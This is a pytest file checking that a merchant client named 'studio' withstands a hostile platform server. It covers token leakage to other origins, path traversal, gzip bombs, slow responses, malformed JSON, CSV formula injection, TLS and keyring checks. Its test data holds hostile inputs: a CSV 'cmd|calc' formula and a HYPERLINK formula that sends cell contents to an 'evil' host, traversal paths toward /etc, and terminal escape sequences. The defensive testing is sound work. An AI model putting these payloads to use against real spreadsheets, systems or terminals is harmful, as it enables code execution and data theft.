"""The client against a hostile platform (tests/hostile_fixtures.py, real HTTP on loopback): the token goes only to
the origin logged in to, nothing the server sends names a place on this machine, every answer is bounded in
size and time and checked against the contract, server text reaches no terminal raw, CSV formulas are
neutralised, plain http and untrusted certificates are refused, a plaintext keyring is no keyring."""

from __future__ import annotations

import io
import json
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import keyring.backend
import pytest

from studio.cli import main
from studio.core.catalog import Catalog
from studio.core.errors import PlatformError, ValidationError
from studio.core.listing_csv import plan_import, read_csv, write_csv
from studio.core.listings_store import ListingsStore
from studio.core.product import single
from studio.core.safe_names import UnsafeName, file_in
from studio.platform import credentials
from studio.platform.catalog_sync import sync_catalog
from studio.platform.image_cache import ImageCache
from studio.platform.listings_sync import pull_listings
from studio.platform.posts import download_package, list_posts, review_queue
from studio.platform.responses import ReadLimits
from studio.platform.session import PlatformSession
from studio.platform.upload import cancel_upload, upload_package
from studio.platform.upload_store import UploadStore
from tests import hostile_fixtures
from tests.hostile_fixtures import (
    HostileServer,
    catalog_page,
    listing,
    png_header,
    post,
)
from tests.platform_fixtures import file_sha256, make_package

hostile = hostile_fixtures.hostile  # the fixtures: a hostile platform and another origin beside it
other_origin = hostile_fixtures.other_origin

TOKEN = "hostile-test-token"
SMALL = ReadLimits(deadline_seconds=2.0, json_bytes=1 << 20, image_bytes=1 << 20, max_pages=5)


def session(server: HostileServer, limits: ReadLimits = SMALL) -> PlatformSession:
    return PlatformSession(server.url, TOKEN, limits=limits)


def cli(argv: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        stdin: str = "") -> tuple[int, str, str]:
    monkeypatch.setenv(credentials.ENV_TOKEN, TOKEN)
    monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


# -- 1. the token goes to the origin logged in to only -------------------------------------------------------------

@pytest.mark.parametrize("form", ["absolute", "scheme-relative"])
def test_a_tus_location_on_another_origin_gets_no_byte_and_no_token(hostile, other_origin, tmp_path, capsys,
                                                                     monkeypatch, form) -> None:
    port = other_origin.url.rsplit(":", 1)[1]
    elsewhere = other_origin.url + "/tus/abc" if form == "absolute" else f"//localhost:{port}/tus/abc"
    hostile.on("POST", "/v1/uploads/", lambda h: h.raw(b"", 201, {"Location": elsewhere}))
    package = make_package(tmp_path / "p.gcpkg", 200_000)
    code, out, _ = cli(["upload", str(package), "--server", hostile.url, "--json"], capsys, monkeypatch)
    assert code == 3 and json.loads(out)["error"]["code"] == "foreign_url"
    assert other_origin.seen == []
    with UploadStore.open() as store:
        assert [r.upload_url for r in store.all()] == [None]


def test_a_stored_upload_url_off_the_origin_is_neither_resumed_nor_cancelled_there(hostile, other_origin,
                                                                                    tmp_path) -> None:
    package = make_package(tmp_path / "p.gcpkg", 100_000)
    hostile.on("POST", "/v1/uploads/", lambda h: h.json({"error": {"code": "busy", "message": "no", "details": []}},
                                                           400))
    with UploadStore.open() as store, session(hostile) as s:
        record = store.add(s.server, str(package.resolve()), package.stat().st_size, file_sha256(package))
        store.update(record.id, upload_url=other_origin.url + "/tus/abc", state="paused")
        with pytest.raises(PlatformError):
            upload_package(s, package, store=store)  # the stored URL is dropped, a new upload is asked for here
        stored = store.get(record.id)
        assert stored is not None and stored.upload_url is None
        store.update(record.id, upload_url=other_origin.url + "/tus/abc", state="paused")
        assert cancel_upload(s, store, record.id).state == "cancelled"
    assert other_origin.seen == []
    assert [(r.method, r.path) for r in hostile.seen if r.method == "POST"] == [("POST", "/v1/uploads/")]


def test_image_urls_off_the_origin_are_never_fetched(hostile, other_origin, tmp_path) -> None:
    with session(hostile) as s, ImageCache(tmp_path / "cache") as cache, pytest.raises(PlatformError) as caught:
        cache.fetch(s, other_origin.url + "/img.png")
    assert caught.value.code == "foreign_url" and other_origin.seen == []


# -- 2. nothing the server sends names a place on this machine ---------------------------------------------------

@pytest.mark.parametrize("post_id", ["../../../../tmp/x/escaped", "/tmp/x/absolute", "..", ".hidden", "a/b",
                                     "x" * 101, "ok\x00.gcpkg"])
def test_post_ids_that_are_no_plain_file_name_write_nothing(hostile, tmp_path, post_id) -> None:
    hostile.answer("GET", "/v1/review/queue", {"items": [post(post_id, status="in_review")], "next_cursor": None})
    hostile.on("GET", f"/v1/posts/{post_id}/package", lambda h: h.raw(b"PK server-chosen bytes"))
    folder = tmp_path / "downloads"
    with session(hostile) as s:
        queued = review_queue(s)
        with pytest.raises(UnsafeName):
            download_package(s, queued[0].post_id, folder)
    assert not folder.exists() and not Path("/tmp/x/escaped.gcpkg").exists()
    assert not any(r.path.endswith("/package") for r in hostile.seen)


def test_file_in_keeps_a_plain_name_inside_its_folder(tmp_path) -> None:
    assert file_in(tmp_path, "post_12.a-b", ".gcpkg") == tmp_path / "post_12.a-b.gcpkg"
    for bad in ("", ".", "..", "../x", "a/../../b", "/abs", "-rf", "a\\b", "名字"):
        with pytest.raises(UnsafeName):
            file_in(tmp_path, bad)


@pytest.mark.parametrize("image", ["/home/someone/secret.jpg", "../../etc/hostname", "file:///etc/hostname",
                                   "http://127.0.0.2:9/x.jpg", "//evil.example/x.jpg"])
def test_a_listing_image_is_a_url_on_the_platform_or_nothing(hostile, tmp_path, image) -> None:
    hostile.answer("GET", "/v1/catalog", catalog_page([listing("A1", images=[image])]))
    with session(hostile) as s, Catalog.open(tmp_path / "catalog.sqlite3") as catalog:
        sync_catalog(s, catalog)
        stored = catalog.get("A1")
    assert stored is not None
    assert stored.image == "" or stored.image.startswith(hostile.url + "/"), stored.image


# -- 3. every answer through one layer ------------------------------------------------------------------------------

def _sync_error(server: HostileServer, tmp_path: Path, limits: ReadLimits = SMALL) -> tuple[PlatformError, float]:
    started = time.monotonic()
    with session(server, limits) as s, Catalog.open(tmp_path / "catalog.sqlite3") as catalog:
        with pytest.raises(PlatformError) as caught:
            sync_catalog(s, catalog)
        assert catalog.count() == 0
    return caught.value, time.monotonic() - started


def test_an_endless_body_stops_at_the_cap(hostile, tmp_path) -> None:
    hostile.on("GET", "/v1/catalog", HostileServer.endless_chunks)
    error, seconds = _sync_error(hostile, tmp_path)
    assert error.code == "response_too_big" and seconds < 10


def test_a_body_larger_than_the_cap_is_refused_before_it_is_read(hostile, tmp_path) -> None:
    hostile.on("GET", "/v1/catalog", lambda h: h.raw(b" " * (2 << 20)))
    assert _sync_error(hostile, tmp_path)[0].code == "response_too_big"


def test_a_gzip_bomb_stops_at_the_expanded_cap(hostile, tmp_path) -> None:
    hostile.on("GET", "/v1/catalog", HostileServer.gzip_bomb(64))
    error, _ = _sync_error(hostile, tmp_path)
    assert error.code == "response_too_big" and "1 MiB" in error.message


@pytest.mark.parametrize("headers_too", [False, True])
def test_one_byte_a_second_is_abandoned_at_the_deadline(hostile, tmp_path, headers_too) -> None:
    hostile.on("GET", "/v1/catalog", lambda h: h.trickle(0.2, headers_too=headers_too))
    error, seconds = _sync_error(hostile, tmp_path, ReadLimits(deadline_seconds=1.5))
    assert error.code == "deadline" and 1.4 < seconds < 6, seconds


def test_the_deadline_comes_from_the_environment(monkeypatch) -> None:
    monkeypatch.setenv("STUDIO_HTTP_DEADLINE", "7.5")
    assert ReadLimits().deadline_seconds == 7.5


def test_a_cursor_that_never_ends_stops_at_the_page_cap(hostile, tmp_path) -> None:
    hostile.answer("GET", "/v1/catalog", catalog_page([], next_cursor="again"))
    hostile.answer("GET", "/v1/listings", {"items": [], "next_cursor": "again"})
    assert _sync_error(hostile, tmp_path)[0].code == "too_many_pages"
    with session(hostile) as s, ListingsStore.open(tmp_path / "listings.sqlite3") as store, \
            pytest.raises(PlatformError) as caught:
        pull_listings(s, store)
    assert caught.value.code == "too_many_pages"
    assert len([r for r in hostile.seen if r.path.startswith("/v1/listings")]) == SMALL.max_pages


def test_a_huge_image_is_refused_while_it_streams_and_a_huge_picture_before_it_is_decoded(hostile,
                                                                                          tmp_path) -> None:
    hostile.on("GET", "/big.png", HostileServer.endless_chunks)
    hostile.on("GET", "/wide.png", lambda h: h.raw(png_header(32000, 32000), headers={"Content-Type": "image/png"}))
    with session(hostile) as s, ImageCache(tmp_path / "cache") as cache:
        for path, code in (("/big.png", "response_too_big"), ("/wide.png", "image_too_large")):
            with pytest.raises(PlatformError) as caught:
                cache.fetch(s, hostile.url + path)
            assert caught.value.code == code
        assert cache.urls() == [] and not list((tmp_path / "cache").glob("*.png*"))


NOT_CONTRACT = {
    "deep": b"[" * 100_000 + b"]" * 100_000,
    "a list": json.dumps([listing("A1")]).encode(),
    "no title": json.dumps(catalog_page([{k: v for k, v in listing("A1").items() if k != "title"}])).encode(),
    "string price": json.dumps(catalog_page([listing("A1", price_cents="12")])).encode(),
    "negative price": json.dumps(catalog_page([listing("A1", price_cents=-500)])).encode(),
    "sku path": json.dumps(catalog_page([listing("../../../etc")])).encode(),
    "lone surrogate": b'{"items": [], "next_cursor": null, "since": "\\ud800"}',
    "NaN": b'{"items": [], "next_cursor": null, "since": NaN}',
}


@pytest.mark.parametrize("name", sorted(NOT_CONTRACT))
def test_an_answer_that_is_not_the_contract_is_one_clear_error_and_stores_nothing(hostile, tmp_path, capsys,
                                                                                  monkeypatch, name) -> None:
    hostile.on("GET", "/v1/catalog", lambda h: h.raw(NOT_CONTRACT[name]))
    code, out, err = cli(["catalog", "sync", "--server", hostile.url, "--json"], capsys, monkeypatch)
    assert code == 3 and "Traceback" not in err, err
    error = json.loads(out)["error"]
    assert error["code"] in ("bad_response", "not_contract") and error["message"]


def test_a_price_beyond_any_database_is_a_skipped_row_not_a_crash(hostile, tmp_path) -> None:
    hostile.answer("GET", "/v1/catalog", catalog_page([listing("A1", price_cents=10**30), listing("B2")]))
    with session(hostile) as s, Catalog.open(tmp_path / "catalog.sqlite3") as catalog:
        result = sync_catalog(s, catalog)
        assert (result.updated, result.skipped) == (1, 1) and catalog.get("A1") is None


@pytest.mark.parametrize("answer", [post("p1", reasons=5), [post("p1")], {"post_id": "p1"}])
def test_a_post_that_is_not_the_contract_is_exit_3_with_the_error_on_stdout(hostile, capsys, monkeypatch,
                                                                            answer) -> None:
    hostile.answer("GET", "/v1/posts/p1", answer)
    code, out, err = cli(["status", "p1", "--server", hostile.url, "--json"], capsys, monkeypatch)
    assert code == 3 and json.loads(out)["error"]["code"] in ("not_contract", "bad_response")
    assert "Traceback" not in err


# -- 4. CSV formulas, and pulled listings pass the import's rules -------------------------------------------------

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1+1)", "-2+3", '=HYPERLINK("http://evil/?x="&A1,"click")']


def test_export_neutralises_formulas_and_the_import_reads_them_back_unchanged(tmp_path) -> None:
    items = [single(sku=f"S{i}", title=title, price_cents=100) for i, title in enumerate(FORMULAS)]
    out = tmp_path / "out.csv"
    write_csv(out, items)
    text = out.read_text(encoding="utf-8-sig")
    for title in FORMULAS:
        assert ("'" + title).replace('"', '""') in text
    plan = plan_import(read_csv(out), None, lambda _p: None)
    assert [item.title for _line, item in plan.good] == FORMULAS


@pytest.mark.parametrize("lead", ["\t", "\r"])
def test_a_leading_tab_or_cr_is_kept_and_refused_not_stripped_into_a_formula(tmp_path, lead) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(f'sku,title,price\nS1,"{lead}=1+1",12\n'.encode())
    plan = plan_import(read_csv(path), None, lambda _p: None)
    assert plan.good == [] and [i.code for i in plan.issues] == ["title_bad_char"]


def test_pulled_listings_pass_the_import_rules_and_export_still_works(hostile, tmp_path) -> None:
    good = listing("GOOD-1")
    hostile.answer("GET", "/v1/listings", {"items": [
        good, listing("RLO-1", currency="\u202eYNC"), listing("NL-1", title="two\nlines"),
        listing("BIG-1", price_cents=10**30), listing("EQ-1", title="=cmd|' /C calc'!A0")], "next_cursor": None})
    with session(hostile) as s, ListingsStore.open(tmp_path / "listings.sqlite3") as store:
        result = pull_listings(s, store)
        assert sorted(r["sku"] for r in result.refused) == ["BIG-1", "NL-1", "RLO-1"]
        assert sorted(store.get_many(["GOOD-1", "EQ-1", "RLO-1", "NL-1", "BIG-1"])) == ["EQ-1", "GOOD-1"]
        write_csv(tmp_path / "out.csv", store.get_many(["GOOD-1", "EQ-1"]).values())
    assert "'=cmd" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")


def test_a_million_column_header_is_a_short_error(tmp_path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{i}" for i in range(1_000_000)) + "\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        read_csv(path)
    assert caught.value.code == "too_many_columns" and len(str(caught.value)) < 500


# -- 5. https for every other machine; an untrusted certificate says so ------------------------------------------

def test_plain_http_to_another_machine_is_refused_unless_allowed(capsys, monkeypatch) -> None:
    with pytest.raises(PlatformError) as caught:
        PlatformSession("http://shop.example.com", TOKEN)
    assert caught.value.code == "plain_http" and "https://" in caught.value.message
    PlatformSession("http://shop.example.com", TOKEN, allow_plain_http=True).close()
    for loopback in ("http://127.0.0.1:9", "http://localhost:9", "http://[::1]:9", "http://127.8.9.10"):
        PlatformSession(loopback, TOKEN).close()
    code, out, _ = cli(["login", "--server", "http://shop.example.com", "--json"], capsys, monkeypatch, "t\n")
    assert code == 3 and json.loads(out)["error"]["code"] == "plain_http"


@pytest.fixture
def self_signed_server(tmp_path) -> Iterator[tuple[str, dict[str, int]]]:
    """An https server on loopback with a self-signed certificate; counts the TLS handshakes tried."""
    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out",
                    str(cert), "-days", "1", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1"],
                   check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    counts = {"handshakes": 0}
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            counts["handshakes"] += 1
            try:
                context.wrap_socket(conn, server_side=True).close()
            except (ssl.SSLError, OSError):
                conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"https://127.0.0.1:{listener.getsockname()[1]}", counts
    stop.set()
    thread.join(5)
    listener.close()


def test_a_self_signed_certificate_is_named_and_not_retried(self_signed_server) -> None:
    url, counts = self_signed_server
    with PlatformSession(url, TOKEN) as s, pytest.raises(PlatformError) as caught:
        s.me()
    assert caught.value.code == "certificate"
    assert "not trusted" in caught.value.message and "self-signed" in caught.value.message
    assert counts["handshakes"] == 1


# -- 6. server text reaches no terminal raw ----------------------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\rreal\u202etxt.exe\x9b31m"


def test_posts_and_status_print_no_control_characters(hostile, capsys, monkeypatch) -> None:
    hostile.answer("GET", "/v1/posts", {"items": [post("p1", title=ESCAPES, reasons=[ESCAPES])], "next_cursor": None})
    hostile.answer("GET", "/v1/posts/p1", post("p1", title=ESCAPES, reasons=[ESCAPES], notes=ESCAPES))
    for argv in (["posts"], ["status", "p1"], ["posts", "--json"], ["status", "p1", "--json"]):
        code, out, err = cli([*argv, "--server", hostile.url], capsys, monkeypatch)
        assert code == 0, err
        assert not any(ch in out + err for ch in "\x1b\x07\r\u202e\x9b"), repr(out)
    with session(hostile) as s:
        assert list_posts(s)[0].title == "]0;pwned[2Jrealtxt.exe31m"


# -- 7. a plaintext keyring is no keyring -------------------------------------------------------------------------

class PlaintextKeyring(keyring.backend.KeyringBackend):
    """Stands in for keyrings.alt's file backend: writes every password, base64 or not, into a file."""

    priority = 1
    file: Path

    def get_password(self, service: str, username: str) -> str | None:
        return None

    def set_password(self, service: str, username: str, password: str) -> None:
        self.file.write_text(password)

    def delete_password(self, service: str, username: str) -> None:
        return None


def test_a_plaintext_keyring_keeps_the_token_for_the_session_only_and_says_so(hostile, tmp_path, capsys,
                                                                             monkeypatch) -> None:
    backend = PlaintextKeyring()
    backend.file = tmp_path / "keyring_pass.cfg"
    before = keyring.get_keyring()
    keyring.set_keyring(backend)
    try:
        monkeypatch.delenv(credentials.ENV_TOKEN, raising=False)
        assert credentials.save_token(hostile.url, TOKEN) == "session"
        assert "plain file" in str(credentials.keyring_problem(hostile.url))
        monkeypatch.setattr(sys, "stdin", io.StringIO(TOKEN + "\n"))
        code = main(["login", "--server", hostile.url])
        _out, err = capsys.readouterr()
        assert code == 4 and "plain file" in err and "until the app closes" in err
    finally:
        keyring.set_keyring(before)
        credentials._session_tokens.clear()
        credentials._problems.clear()
    assert not backend.file.exists()


@pytest.mark.gui
def test_the_listings_view_says_which_pulled_listings_were_not_taken(qtbot, hostile, tmp_path) -> None:
    from studio.ui.merchant.listings_view import ListingsView

    hostile.answer("GET", "/v1/listings", {"items": [listing("GOOD-1"), listing("NL-1", title="two\nlines")],
                                           "next_cursor": None})
    with ListingsStore.open(tmp_path / "listings.sqlite3") as store:
        view = ListingsView(store, session_factory=lambda: session(hostile))
        qtbot.addWidget(view)
        with qtbot.waitSignal(view.syncFinished, timeout=20_000) as pulled:
            view.sync(push=False)
        assert [r["sku"] for r in pulled.args[0].refused] == ["NL-1"]
        assert "1 not taken" in view.message_label.text() and "NL-1, Title" in view.message_label.text()
        assert sorted(store.get_many(["GOOD-1", "NL-1"])) == ["GOOD-1"]


def test_a_package_that_trickles_is_abandoned_at_its_deadline_and_leaves_nothing(hostile, tmp_path) -> None:
    hostile.on("GET", "/v1/posts/p1/package", lambda h: h.trickle(0.2))
    limits = ReadLimits(deadline_seconds=1.0, package_deadline_seconds=1.5)
    started = time.monotonic()
    with session(hostile, limits) as s, pytest.raises(PlatformError) as caught:
        download_package(s, "p1", tmp_path / "dl")
    assert caught.value.code == "deadline" and time.monotonic() - started < 6
    assert list((tmp_path / "dl").iterdir()) == []


@pytest.mark.parametrize("bad", [{"price_cents": "12"}, {"price_cents": -500}, {"sku": "../../../etc"},
                                 {"title": "lone \ud800 surrogate"}])
def test_a_listings_page_off_the_contract_stores_nothing_and_export_still_works(hostile, tmp_path, bad) -> None:
    hostile.answer("GET", "/v1/listings", {"items": [listing("GOOD-1"), {**listing("BAD-1"), **bad}],
                                           "next_cursor": None})
    with session(hostile) as s, ListingsStore.open(tmp_path / "listings.sqlite3") as store:
        with pytest.raises(PlatformError) as caught:
            pull_listings(s, store)
        assert caught.value.code in ("not_contract", "bad_response")
        assert store.get_many(["GOOD-1", "BAD-1"]) == {}
        assert write_csv(tmp_path / "out.csv", store.get_many(["GOOD-1"]).values()) == 0
